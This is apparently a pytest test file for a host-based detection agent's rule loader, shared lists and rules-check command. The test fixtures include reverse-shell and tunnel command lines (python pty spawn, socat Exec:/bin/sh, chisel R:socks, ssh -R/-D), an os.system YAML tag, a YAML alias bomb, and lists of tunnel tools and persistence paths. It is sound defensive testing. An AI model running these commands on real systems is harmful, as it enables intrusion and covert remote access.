"""agent.ruleset (rules, lists, load): the rule schema, the shared lists, and `chainwatch rules check`."""

from __future__ import annotations

import ipaddress
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from agent.ruleset.catalog import DETECTORS
from agent.ruleset.lists import Lists, TunnelTool
from agent.ruleset.load import check_rules, default_rules_dir, load_lists, load_rules
from agent.ruleset.rules import Exceptions, Rule, Severity
from agent.ruleset.yamlcheck import RuleErrors, RuleProblem

CHAINWATCH = [sys.executable, "-m", "agent"]

GOOD_RULE = """\
id: {id}
name: {name}
description: A test rule.
detector: tunnel_tool
severity: high
maturity: experimental
mitre: [T1572]
false_positives: []
exceptions: {{}}
"""


def good_rule(rule_id: str = "0b8f3f4e-1c39-4b8a-9d2e-6f1e2a3b4c5d", name: str = "Test rule") -> str:
    return GOOD_RULE.format(id=rule_id, name=name)


def write(directory: Path, name: str, text: str) -> Path:
    path = directory / name
    path.write_text(textwrap.dedent(text))
    return path


def problems_at(problems: list[RuleProblem], path: Path) -> list[tuple[int, str]]:
    return [(p.line, p.reason) for p in problems if p.file == str(path)]


# --- the bundled rules ------------------------------------------------------------------------------------


def test_bundled_rules_load_without_problems() -> None:
    """Every bundled rule and list file validates: check_rules reports nothing."""
    assert check_rules() == []
    ruleset = load_rules()
    assert len(ruleset.rules) >= len(DETECTORS)
    assert all(rule.source_file.startswith(str(default_rules_dir())) for rule in ruleset.rules)


def test_every_detector_has_a_rule() -> None:
    """Each detector in the catalog is named by at least one bundled rule."""
    ruleset = load_rules()
    assert {d for d in DETECTORS if not ruleset.by_detector(d)} == set()


def test_bundled_rule_facts() -> None:
    """The seeded rules keep their seed's id and severity, and scores follow the severity names."""
    by_file = {Path(r.source_file).name: r for r in load_rules().rules}
    sigma = by_file["shell-network-connection.yaml"]
    assert sigma.id == "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871"
    assert sigma.seed == "sigma:83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871"
    # A notice: a shell that connects but reads no commands from it is a port probe until the stdio graph
    # says otherwise (issue 11); the reverse-shell rules raise the incident.
    assert sigma.severity_score == 21 and "T1059.004" in sigma.mitre
    elastic = by_file["interpreter-reverse-shell.yaml"]
    assert (elastic.severity, elastic.severity_score) == ("medium", 47)
    assert set(by_file["tunnel-tool.yaml"].mitre) == {"T1572", "T1090"}
    assert [Severity[n].value for n in ("low", "medium", "high", "critical")] == [21, 47, 73, 99]


def test_by_detector_rejects_unknown_names() -> None:
    """by_detector with a name that is not a detector is an error, not an empty answer."""
    with pytest.raises(ValueError, match="unknown detector"):
        load_rules().by_detector("shell_network_conection")


def test_rule_derives_score_and_rejects_bad_severity() -> None:
    """Rule computes severity_score from severity and refuses an unknown severity."""
    rule = Rule(
        id="x",
        name="n",
        description="d",
        detector="tunnel_tool",
        severity="critical",
        maturity="test",
        mitre=("T1572",),
        false_positives=(),
    )
    assert rule.severity_score == 99
    with pytest.raises(ValueError, match="severity"):
        Rule(
            id="x",
            name="n",
            description="d",
            detector="tunnel_tool",
            severity="severe",
            maturity="test",
            mitre=("T1572",),
            false_positives=(),
        )


# --- validation of a broken directory ---------------------------------------------------------------------


def test_all_problems_reported_at_once(tmp_path: Path) -> None:
    """Problems in several files come back together, each with its file and line."""
    a = write(tmp_path, "a.yaml", good_rule().replace("description:", "colour: blue\ndescription:", 1))
    b = write(tmp_path, "b.yaml", good_rule(rule_id="not-a-uuid", name="B"))
    c = write(tmp_path, "c.yaml", "id: 1\nname: [unclosed\ndetector: x\n")
    d = write(tmp_path, "d.yaml", "")
    e = write(
        tmp_path,
        "e.yaml",
        good_rule(rule_id="1c1d6f0e-0a55-4a0b-9a4e-0d1c5a8f7e21", name="E")
        .replace("severity: high", "severity: severe")
        .replace("[T1572]", "[T1572, t1059]"),
    )
    with pytest.raises(RuleErrors) as info:
        load_rules(tmp_path)
    problems = info.value.problems
    assert problems_at(problems, a) == [
        (
            3,
            "unknown key 'colour' (expected one of: id, name, description, "
            "detector, severity, maturity, mitre, false_positives, exceptions, "
            "references, seed)",
        )
    ]
    assert [line for line, _ in problems_at(problems, b)] == [1]
    assert "not a UUID" in problems_at(problems, b)[0][1]
    [(c_line, c_reason)] = problems_at(problems, c)
    assert c_reason.startswith("YAML syntax error") and c_line == 3
    assert problems_at(problems, d) == [(1, "the file is empty")]
    assert [line for line, _ in problems_at(problems, e)] == [5, 7]
    assert str(info.value).count("\n") == len(problems)
    assert f"{a}:3: unknown key 'colour'" in str(info.value)


def test_missing_and_mistyped_keys(tmp_path: Path) -> None:
    """A missing key is reported at the mapping, a wrong type at its key, a bad list entry at its line."""
    path = write(
        tmp_path,
        "r.yaml",
        """\
        id: 0b8f3f4e-1c39-4b8a-9d2e-6f1e2a3b4c5d
        name: [not, a, string]
        detector: no_such_detector
        severity: high
        maturity: beta
        mitre:
          - T1059
          - T99
        false_positives:
        exceptions:
          destination_cidrs: [10.0.0.1/8, 192.168.0.0/16]
          destination_ports: [22, 70000, "80"]
          process_executables: [python3]
        severity_score: 73
        """,
    )
    got = problems_at(check_rules(tmp_path), path)
    reasons = dict(got)
    assert (1, "missing key 'description'") in got
    assert reasons[2] == "'name' must be a string, not a list"
    assert "no_such_detector" in reasons[3]
    assert "beta" in reasons[5]
    assert "T99" in reasons[8]
    assert reasons[9] == "'false_positives' must be a list, not null"
    assert "host bits set" in reasons[11]
    assert [r for line, r in got if line == 12] == [
        "'destination_ports': 70000 is not in 1..65535",
        "'destination_ports': an entry must be an integer, not a string",
    ]
    assert "start it with / or *" in reasons[13]
    assert reasons[14].startswith("unknown key 'severity_score' (it is derived")


def test_duplicate_id_across_files(tmp_path: Path) -> None:
    """Two files with one id: the later file is reported, pointing at the first."""
    first = write(tmp_path, "first.yaml", good_rule(name="One"))
    second = write(tmp_path, "second.yaml", good_rule(name="Two"))
    problems = check_rules(tmp_path)
    assert problems == [
        RuleProblem(str(second), 1, f"duplicate id '0b8f3f4e-1c39-4b8a-9d2e-6f1e2a3b4c5d' (also in {first}:1)")
    ]


def test_yaml_level_problems(tmp_path: Path) -> None:
    """Duplicate keys, custom tags, non-mapping documents, bad names and lists/ are handled as problems."""
    dup = write(tmp_path, "dup.yaml", good_rule() + "name: Again\n")
    tag = write(
        tmp_path,
        "tag.yaml",
        good_rule(rule_id="1c1d6f0e-0a55-4a0b-9a4e-0d1c5a8f7e21", name="T").replace(
            "description: A test rule.", "description: !!python/name:os.system x"
        ),
    )
    seq = write(tmp_path, "seq.yaml", "- a\n- b\n")
    bad_name = write(tmp_path, "Bad_Name.yml", good_rule(rule_id="2c1d6f0e-0a55-4a0b-9a4e-0d1c5a8f7e21", name="N"))
    (tmp_path / "lists").mkdir()
    (tmp_path / "lists" / "ignored.yaml").write_text(":\n")  # lists/ is not read as rules
    problems = check_rules(tmp_path, lists_dir=default_rules_dir() / "lists")
    assert problems_at(problems, dup) == [(10, "duplicate key 'name' (first on line 2)")]
    assert [line for line, _ in problems_at(problems, tag)] == [3]
    assert problems_at(problems, seq) == [(1, "a rule file must be a mapping, not a list")]
    assert [line for line, _ in problems_at(problems, bad_name)] == [1]
    assert len(problems) == 4


def test_not_a_directory_and_empty_directory(tmp_path: Path) -> None:
    """A missing directory and a directory without rules are problems, not exceptions of another kind."""
    assert [p.reason for p in check_rules(tmp_path / "nope")] == ["not a directory of rule files"]
    assert [p.reason for p in check_rules(tmp_path)] == ["no rule files (*.yaml, *.yml) in this directory"]


def test_good_rule_in_own_directory_uses_bundled_lists(tmp_path: Path) -> None:
    """A rule directory without lists/ loads against the bundled lists."""
    write(tmp_path, "my-rule.yaml", good_rule())
    ruleset = load_rules(tmp_path)
    assert [r.name for r in ruleset.by_detector("tunnel_tool")] == ["Test rule"]
    assert ruleset.lists == load_lists()


# --- exceptions -------------------------------------------------------------------------------------------


def test_exceptions_match_on_any_hook() -> None:
    """Each hook alone suppresses the event; an empty Exceptions suppresses nothing."""
    args = ["python3", "-c", "import pty; pty.spawn('/bin/sh')"]
    assert not Exceptions().matches("/usr/bin/python3", "/bin/bash", args, "198.51.100.2", 4444)
    cases = [
        Exceptions(process_executables=("/usr/bin/python3*",)),
        Exceptions(parent_executables=("*/bash",)),
        Exceptions(args_contains=("-c import pty",)),  # spans two argv elements: matched on the joined text
        Exceptions(destination_cidrs=(ipaddress.ip_network("198.51.100.0/24"),)),
        Exceptions(destination_ports=(4444,)),
    ]
    for exc in cases:
        assert exc.matches("/usr/bin/python3", "/bin/bash", args, "198.51.100.2", 4444), exc
    misses = [
        Exceptions(process_executables=("python3",)),  # a glob on the whole path, not the basename
        Exceptions(parent_executables=("/bin/dash",)),
        Exceptions(args_contains=("subprocess",)),
        Exceptions(destination_cidrs=(ipaddress.ip_network("203.0.113.0/24"),)),
        Exceptions(destination_ports=(443,)),
    ]
    for exc in misses:
        assert not exc.matches("/usr/bin/python3", "/bin/bash", args, "198.51.100.2", 4444), exc


def test_exceptions_address_edge_cases() -> None:
    """No address, an unparseable one and an IPv4-mapped IPv6 peer behave sensibly."""
    exc = Exceptions(destination_cidrs=(ipaddress.ip_network("10.0.0.0/8"),), destination_ports=(6667,))
    assert not exc.matches("/bin/sh", "", [], None, None)
    assert not exc.matches("/bin/sh", "", [], "not-an-ip", 80)
    assert exc.matches("/bin/sh", "", [], "::ffff:10.1.2.3", 80)
    assert exc.matches("/bin/sh", "", [], None, 6667)


def test_exceptions_from_yaml(tmp_path: Path) -> None:
    """A rule's exceptions block becomes typed hooks (networks parsed, ports as ints)."""
    write(
        tmp_path,
        "tuned.yaml",
        good_rule().replace(
            "exceptions: {}",
            """\
exceptions:
  parent_executables: ["/usr/bin/make"]
  destination_cidrs: [10.0.0.0/8, "2001:db8::/32"]
  destination_ports: [443]
""",
        ),
    )
    [rule] = load_rules(tmp_path).rules
    assert rule.exceptions.destination_cidrs == (
        ipaddress.ip_network("10.0.0.0/8"),
        ipaddress.ip_network("2001:db8::/32"),
    )
    assert rule.exceptions.matches("/usr/bin/ngrok", "/usr/bin/make", [], None, None)
    assert rule.exceptions.matches("/usr/bin/ngrok", "/bin/sh", [], "2001:db8::5", 1)
    assert not rule.exceptions.matches("/usr/bin/ngrok", "/bin/sh", [], "198.51.100.2", 80)


# --- lists ------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def lists() -> Lists:
    return load_lists()


@pytest.mark.parametrize(
    "addr",
    [
        "127.0.0.1",
        "127.255.255.254",
        "::1",
        "0.0.0.0",
        "::",
        "169.254.169.254",
        "fe80::1",
        "fe80::1%eth0",
        "224.0.0.251",
        "239.255.255.250",
        "ff02::fb",
        "::ffff:127.0.0.1",
        "::ffff:169.254.1.1",
    ],
)
def test_local_addresses_are_not_remote(lists: Lists, addr: str) -> None:
    """Every local_cidrs range (and its IPv4-mapped form) counts as local."""
    assert not lists.is_remote(addr)


@pytest.mark.parametrize("addr", ["198.51.100.2", "2001:db8::2", "10.0.0.5", "::ffff:198.51.100.2"])
def test_remote_addresses(lists: Lists, addr: str) -> None:
    """Public, documentation and private addresses are remote."""
    assert lists.is_remote(addr)


@pytest.mark.parametrize("addr", ["", "localhost", "300.1.1.1", "198.51.100.2/32"])
def test_unparseable_addresses_are_not_remote(lists: Lists, addr: str) -> None:
    """Anything that is not an IP address is not remote."""
    assert not lists.is_remote(addr)


def test_list_contents(lists: Lists) -> None:
    """The lists hold what the detectors expect."""
    assert {"sh", "bash", "dash", "yash"} <= lists.shells and "busybox" not in lists.shells
    assert lists.program("/bin/busybox", ("busybox", "wget", "-q")) == "wget"
    assert lists.program("/bin/busybox", ("sh", "-c", "x")) == "sh"
    assert lists.is_socket_holder("/usr/sbin/sshd") and not lists.is_socket_holder("/usr/bin/bash")
    assert lists.is_shell("/usr/bin/bash") and not lists.is_shell("/usr/bin/bashful")
    assert lists.is_interpreter("/usr/bin/python3.11") and lists.is_interpreter("/usr/bin/mawk")
    assert not lists.is_interpreter("/usr/bin/pip")
    assert all(lists.is_reverse_shell_parent(p) for p in ("bash", "perl5.36", "ruby3.1", "gawk", "node", "ncat"))
    assert lists.irc_ports == frozenset([*range(6660, 6670), 6697, 7000])
    assert lists.is_persistence_path("/etc/cron.d/x") and lists.is_persistence_path("/home/u/.ssh/authorized_keys")
    assert len(lists.local_cidrs) == 9


def test_persistence_list_agrees_with_probe_compiler(lists: Lists) -> None:
    """The probe compiler renders its filter from the list the detectors use (one reader)."""
    from agent.probes.source import bundled_persistence, render_path_matcher

    assert bundled_persistence() == lists.persistence
    assert render_path_matcher(lists.persistence) == render_path_matcher(bundled_persistence())


def test_tunnel_list(lists: Lists) -> None:
    """tunnels.yaml parses into TunnelTools with the argv each needs."""
    by_name = {t.name: t for t in lists.tunnels}
    assert {
        "chisel",
        "ngrok",
        "ligolo-ng",
        "frp",
        "rathole",
        "gost",
        "bore",
        "cloudflared",
        "wstunnel",
        "iodine",
        "dnscat2",
        "ssh",
        "socat",
    } <= set(by_name)
    assert by_name["chisel"] == TunnelTool("chisel", ("chisel",), ("client", "server"))
    assert by_name["ligolo-ng"].executables == ("ligolo-agent", "ligolo-proxy", "ligolo-ng", "ligolo")
    assert lists.tunnel_for("/usr/local/bin/chisel", ["chisel", "client", "198.51.100.2:8000", "R:socks"])
    assert lists.tunnel_for("/usr/local/bin/chisel", ["chisel", "--help"]) is None
    assert lists.tunnel_for("/tmp/ligolo-agent", ["ligolo-agent"]) == by_name["ligolo-ng"]
    assert lists.tunnel_for("/usr/bin/ssh", ["ssh", "-R8080:localhost:22", "u@h"]) == by_name["ssh"]
    assert lists.tunnel_for("/usr/bin/ssh", ["ssh", "-D", "1080", "u@h"]) == by_name["ssh"]
    assert lists.tunnel_for("/usr/bin/ssh", ["ssh", "-W", "%h:%p", "bastion"]) is None  # -W is not -w
    assert lists.tunnel_for("/usr/bin/ssh", ["ssh", "git@github.com"]) is None
    assert lists.tunnel_for("/usr/bin/socat", ["socat", "tcp:198.51.100.2:4444", "Exec:/bin/sh,pty"])
    assert lists.tunnel_for("/usr/bin/socat", ["socat", "TCP:h:1", "SYSTEM:id"])
    assert lists.tunnel_for("/usr/bin/socat", ["socat", "TCP-LISTEN:80", "TCP:h:8080"]) is None


def test_broken_lists_report_every_problem(tmp_path: Path) -> None:
    """Problems in several list files (and a missing one) are all reported with file and line."""
    lists_dir = tmp_path / "lists"
    shutil.copytree(default_rules_dir() / "lists", lists_dir)
    (lists_dir / "shells.yaml").unlink()
    write(lists_dir, "network.yaml", "local_cidrs:\n  - 127.0.0.0/8\n  - 999.0.0.0/8\nirc_ports: [6667, 9-1]\n")
    write(
        lists_dir,
        "tunnels.yaml",
        "tunnels:\n  - name: x\n    executables: [/bin/x]\n  - name: x\n    executables: [y]\n    flags: []\n",
    )
    write(lists_dir, "extra.yaml", "a: 1\n")
    with pytest.raises(RuleErrors) as info:
        load_lists(lists_dir)
    got = {(Path(p.file).name, p.line) for p in info.value.problems}
    assert got == {
        ("shells.yaml", 1),
        ("network.yaml", 3),
        ("network.yaml", 4),
        ("tunnels.yaml", 3),
        ("tunnels.yaml", 4),
        ("tunnels.yaml", 6),
        ("extra.yaml", 1),
    }


# --- the command line -------------------------------------------------------------------------------------


def test_cli_rules_check_bundled() -> None:
    """`chainwatch rules check` on the bundled rules exits 0 and counts them."""
    proc = subprocess.run([*CHAINWATCH, "rules", "check"], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    # The next line is the bundled Sigma rules' check (tests/unit/test_sigma.py).
    assert proc.stdout.splitlines()[0] == f"{len(load_rules().rules)} rules OK ({default_rules_dir()})"


def test_cli_rules_check_broken(tmp_path: Path) -> None:
    """`chainwatch rules check DIR` on broken rules exits 1 and prints file:line: reason for each problem."""
    bad = write(tmp_path, "bad.yaml", good_rule().replace("maturity: experimental", "maturity: alpha"))
    write(tmp_path, "worse.yaml", "id: [\n")
    proc = subprocess.run([*CHAINWATCH, "rules", "check", str(tmp_path)], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 1
    lines = proc.stderr.splitlines()
    assert lines[0].startswith(f"{bad}:6: 'maturity': 'alpha' is not one of")
    assert lines[1].startswith(f"{tmp_path / 'worse.yaml'}:2: YAML syntax error")
    assert len(lines) == 2 and proc.stdout == ""


# --- robustness -------------------------------------------------------------------------------------------


def alias_bomb(levels: int = 6) -> str:
    """Each level lists the one before ten times: the last holds 10**(levels - 1) values, from a few hundred bytes."""
    lines = ["l0: &l0 [x]"]
    for i in range(1, levels):
        lines.append(f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 10)}]")
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("a: &a [*a]\n", "nested more than 50 levels deep"),
        (alias_bomb(), "more than 100000 values"),
        ("[" * 2000, "nested too deeply to parse"),
        ("id: 2021-13-45\n", "cannot read the value '2021-13-45'"),
        (b"\xff\xfeid: x\n".decode("latin-1"), "not UTF-8 text"),
    ],
)
def test_hostile_yaml_is_a_problem(tmp_path: Path, text: str, reason: str) -> None:
    """Recursive aliases, alias bombs, deep nesting, odd bytes and impossible dates are problems, not crashes."""
    (tmp_path / "hostile.yaml").write_text(text, encoding="latin-1" if "\xff" in text else "utf-8")
    with pytest.raises(RuleErrors) as info:
        load_rules(tmp_path)
    assert reason in str(info.value)
